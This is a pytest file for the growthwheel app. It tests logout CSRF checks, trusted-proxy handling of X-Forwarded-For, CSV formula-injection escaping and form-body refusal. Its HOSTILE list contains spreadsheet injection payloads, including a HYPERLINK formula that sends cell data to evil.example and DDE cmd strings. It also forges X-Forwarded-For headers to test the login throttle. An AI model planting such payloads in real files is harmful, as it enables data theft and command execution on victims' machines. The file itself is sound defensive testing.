"""Issue 10, security items 8–13: what must not leak or be forged, on the app as assembled.

- personal data in quarantine (raw rows included) is masked for analysts (8);
- every CSV export defuses formula-like cells (9);
- console routes that read a JSON body survive a form body (10);
- ``/logout`` honours Fetch Metadata like every other form (11);
- ``X-Forwarded-For`` is believed only from configured proxies (12) — checked on the real
  ``growthwheel serve`` process too;
- uploads are deleted when their import ends, errors name the file as uploaded, never a server
  path, and a binary file gets a clear error (13).
"""

from __future__ import annotations

import csv
import io
import os
import re
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from growthwheel.accounts import service
from growthwheel.accounts.models import AuditEntry
from growthwheel.api.app import create_app
from growthwheel.config import Settings
from growthwheel.kit import export
from growthwheel.promotions import coupons
from growthwheel.store.db import session_scope


def _token(page_text: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', page_text)
    assert found is not None, "no CSRF token on the page"
    return found.group(1)


def _failed_login_ips(cfg: Settings) -> list[str | None]:
    with session_scope(cfg) as session:
        return list(session.scalars(sa.select(AuditEntry.ip).where(AuditEntry.action == "login.failed")
                                    .order_by(AuditEntry.id)))


@pytest.fixture
def app_client(store_cfg: Settings) -> Iterator[TestClient]:
    with TestClient(create_app(store_cfg)) as client:
        yield client


# --------------------------------------------------------------------------------------------
# 11. /logout and Fetch Metadata
# --------------------------------------------------------------------------------------------


def test_logout_from_another_site_is_refused_and_the_session_survives(
    app_client: TestClient, make_user: Callable[..., Any], log_in: Callable[..., Any]
) -> None:
    user = make_user("operator")
    log_in(app_client, user.email, user.password)
    token = _token(app_client.get("/imports").text)
    for site in ("cross-site", "same-site"):
        refused = app_client.post("/logout", data={"csrf_token": token},
                                  headers={"Sec-Fetch-Site": site}, follow_redirects=False)
        assert refused.status_code == 403, site
        assert refused.json()["code"] == "csrf_failed"
        assert app_client.get("/api/v1/me").status_code == 200  # still logged in
    done = app_client.post("/logout", data={"csrf_token": token},
                           headers={"Sec-Fetch-Site": "same-origin"}, follow_redirects=False)
    assert done.status_code == 303
    assert app_client.get("/api/v1/me").status_code == 401


# --------------------------------------------------------------------------------------------
# 12. X-Forwarded-For: only from trusted proxies
# --------------------------------------------------------------------------------------------


def _fail_login(client: TestClient, email: str, forwarded: str | None) -> int:
    token = service.anonymous_csrf_token(service.server_secret(client.app.state.cfg.data_dir))  # type: ignore[attr-defined]
    headers = {"X-Forwarded-For": forwarded} if forwarded is not None else {}
    response = client.post("/login", data={"email": email, "password": "wrong-password-123",
                                           "csrf_token": token},
                           headers=headers, follow_redirects=False)
    return response.status_code


@pytest.mark.parametrize("store_cfg", ["sqlite"], indirect=True)
def test_forwarded_for_is_used_only_behind_a_configured_proxy(store_cfg: Settings) -> None:
    cases = [  # (peer, X-Forwarded-For, address recorded)
        ("10.0.0.2", "198.51.100.7, 203.0.113.9", "203.0.113.9"),  # right-most untrusted hop
        ("10.0.0.2", "198.51.100.7, 10.9.9.9", "198.51.100.7"),  # through two proxies
        ("10.0.0.2", "203.0.113.5:4711", "203.0.113.5"),  # with a port
        ("10.0.0.2", "1.2.3.4, not-an-address", "10.0.0.2"),  # garbage: the proxy's own peer
        ("10.0.0.2", None, "10.0.0.2"),
        ("192.0.2.44", "198.51.100.7", "192.0.2.44"),  # the peer is no proxy: header ignored
    ]
    proxied = store_cfg.model_copy(update={"trusted_proxies": ["10.0.0.0/8"]})
    for n, (peer, forwarded, _) in enumerate(cases):
        with TestClient(create_app(proxied), client=(peer, 40000)) as client:
            assert _fail_login(client, f"nobody{n}@example.com", forwarded) == 303
    # Without the setting (the default) nobody's header is believed.
    with TestClient(create_app(store_cfg), client=("10.0.0.2", 40000)) as client:
        assert _fail_login(client, "nobody-else@example.com", "203.0.113.9") == 303
    assert _failed_login_ips(store_cfg) == [ip for _, _, ip in cases] + ["10.0.0.2"]


def test_trusted_proxies_setting_is_validated() -> None:
    cfg = Settings(trusted_proxies="127.0.0.1, 10.0.0.0/8 ::1")  # type: ignore[arg-type]
    assert cfg.trusted_proxies == ["127.0.0.1/32", "10.0.0.0/8", "::1/128"]
    assert Settings().trusted_proxies == []
    with pytest.raises(ValueError, match=re.escape("GROWTHWHEEL_TRUSTED_PROXIES: 'proxy.local'")):
        Settings(trusted_proxies="proxy.local")  # type: ignore[arg-type]


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.mark.parametrize("store_cfg", ["sqlite"], indirect=True)
def test_served_app_ignores_forged_forwarded_for(store_cfg: Settings, tmp_path: Path) -> None:
    """``growthwheel serve`` as a user runs it: a local client forging ``X-Forwarded-For`` on every
    attempt is still one address to the login throttle and to the audit log."""
    port = _free_port()
    env = {**os.environ, "GROWTHWHEEL_DATA_DIR": str(store_cfg.data_dir)}
    env.pop("GROWTHWHEEL_TRUSTED_PROXIES", None)
    log = (tmp_path / "serve.log").open("w")
    server = subprocess.Popen(
        [sys.executable, "-c", "from growthwheel.cli.main import main; main()", "serve",
         "--host", "127.0.0.1", "--port", str(port)],
        env=env, stdout=log, stderr=subprocess.STDOUT,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            assert server.poll() is None, (tmp_path / "serve.log").read_text()
            try:
                if httpx.get(f"{base}/api/v1/health", timeout=2).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            assert time.monotonic() < deadline, "the server did not start"
            time.sleep(0.2)
        token = service.anonymous_csrf_token(service.server_secret(store_cfg.data_dir))
        codes = []
        with httpx.Client(base_url=base, timeout=30) as client:
            for i in range(service.IP_FAILURE_LIMIT + 1):
                response = client.post("/login", data={"email": f"victim{i}@example.com",
                                                       "password": "wrong-password-123",
                                                       "csrf_token": token},
                                       headers={"X-Forwarded-For": f"203.0.113.{i + 1}"})
                codes.append(response.status_code)
    finally:
        server.terminate()
        server.wait(30)
        log.close()
    assert codes[:-1] == [303] * service.IP_FAILURE_LIMIT  # wrong password: back to the login page
    assert codes[-1] == 429  # one address, however many it claims to be
    assert set(_failed_login_ips(store_cfg)) == {"127.0.0.1"}


# --------------------------------------------------------------------------------------------
# 9. Formula injection: one escaping writer for every export
# --------------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x!A0",
           "@SUM(1+1)*cmd|x!A0", "\tTAB", "\uff1dSUM(1)"]


def test_export_cells_defuse_formulas_and_keep_numbers_and_phones() -> None:
    for payload in HOSTILE:
        written = export.cell(payload)
        assert written == "'" + payload
        assert export.is_defused(written)
    for harmless in ("-12.50", "+86 138-****-5678", "13800138000", "C0000031", "", "a=b"):
        assert export.cell(harmless) == harmless
    assert [export.cell(v) for v in (None, True, 3, 2.5, float("nan"))] == ["", "true", "3", "2.5", ""]
    text = "".join(export.csv_chunks(["a", "b"], [[p, 1] for p in HOSTILE], chunk=2))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["a", "b"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in HOSTILE]


def test_console_coupon_codes_csv_defuses_customer_ids_and_issue_keys(
    app_client: TestClient, store_cfg: Settings, make_user: Callable[..., Any], log_in: Callable[..., Any]
) -> None:
    start = datetime.now(UTC) - timedelta(days=1)
    with session_scope(store_cfg) as session:
        batch = coupons.create_batch(session, name="hostile", valid_from=start,
                                     valid_until=start + timedelta(days=30),
                                     definition={"reward": {"type": "order_amount_off", "amount": 1000}})
        coupons.issue(session, batch, ['=HYPERLINK("http://e.example","x")', "plain-1"],
                      issue_key="@SUM(1+1)")
        batch_id = batch.id
    operator = make_user("operator")
    log_in(app_client, operator.email, operator.password)
    response = app_client.get(f"/coupons/{batch_id}/codes.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 2
    for row in rows:
        for value in row.values():
            assert export.is_defused(value), value
    assert {r["issue_key"] for r in rows} == {"'@SUM(1+1)"}
    assert any(r["customer_id"].lower().startswith("'=hyperlink(") for r in rows)


# --------------------------------------------------------------------------------------------
# 10. A JSON-reading console route given a form body
# --------------------------------------------------------------------------------------------


def test_segment_preview_with_a_form_body_is_a_clear_refusal(
    app_client: TestClient, make_user: Callable[..., Any], log_in: Callable[..., Any]
) -> None:
    analyst = make_user("analyst")
    log_in(app_client, analyst.email, analyst.password)
    token = _token(app_client.get("/imports").text)
    definition = '{"all": [{"attribute": "city", "op": "eq", "value": "x"}]}'
    with_token = app_client.post("/segments/preview", data={"csrf_token": token, "definition": definition})
    assert with_token.status_code == 422
    assert with_token.json()["ok"] is False
    without = app_client.post("/segments/preview", data={"definition": definition})
    assert without.status_code == 403
    assert without.json()["code"] == "csrf_failed"
    huge = app_client.post("/segments/preview", data={"csrf_token": token, "definition": "x" * 300_000})
    assert huge.status_code == 422
    # The JSON the builder sends still works.
    ok = app_client.post("/segments/preview", json={"definition": {"all": []}},
                         headers={"X-CSRF-Token": token})
    assert ok.status_code == 200, ok.text
    assert (ok.json()["ok"], ok.json()["count"], ok.json()["masked"]) == (True, 0, True)
